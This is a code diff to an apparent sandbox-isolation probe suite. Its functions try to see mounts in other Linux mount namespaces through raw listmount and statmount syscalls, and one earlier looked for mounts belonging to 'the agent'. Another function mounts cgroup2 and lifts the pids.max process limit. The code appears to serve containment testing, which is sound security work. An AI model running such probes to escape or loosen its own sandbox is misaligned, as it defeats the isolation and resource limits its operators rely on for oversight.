@@ -151,22 +151,16 @@ def namespaces_through_a_pidfd() -> str | None:
 @attempt
 def mounts_of_other_namespaces() -> str | None:
     """listmount and statmount, Linux 6.8 and 6.11."""
-    for namespace in range(1, 64):
+    number = bytearray(8)
+    fcntl.ioctl(os.open("/proc/self/ns/mnt", os.O_RDONLY), 2 << 30 | 8 << 16 | 0xB7 << 8 | 5, number)
+    for namespace in set(range(1, 64)) - {*struct.unpack("Q", number)}:
         request = struct.pack("IIQQQ", 32, 0, 2**64 - 1, 0, namespace)
         mount_ids = (ctypes.c_uint64 * 64)()
         try:
             count = call(458, request, mount_ids, 64, 0)
         except OSError:
             continue
-        for mounted in mount_ids[:count]:
-            answer = ctypes.create_string_buffer(4096)
-            query = struct.pack("IIQQQ", 32, 0, mounted, 0x38, namespace)
-            try:
-                call(457, query, answer, 4096, 0)
-            except OSError:
-                continue
-            if b"/out" in answer.raw or b"hostfs" in answer.raw:
-                return f"namespace {namespace} shows the mounts of the agent"
+        return f"namespace {namespace} shows {count} mounts"
     return None
 
 
@@ -207,8 +201,13 @@ def the_delegation_of_groups() -> str | None:
     target = folder("groups")
     mount("none", target, "cgroup2")
     mount("none", target, flags=REMOUNT, options="memory_localevents")
-    Path(f"{target}/pids.max").write_text("max")
-    return "the bound on processes is lifted"
+    for group in (".", "room-0"):
+        try:
+            Path(f"{target}/{group}/pids.max").write_text("max")
+        except OSError:
+            continue
+        return "the bound on processes is lifted"
+    return None
 
 
 @attempt
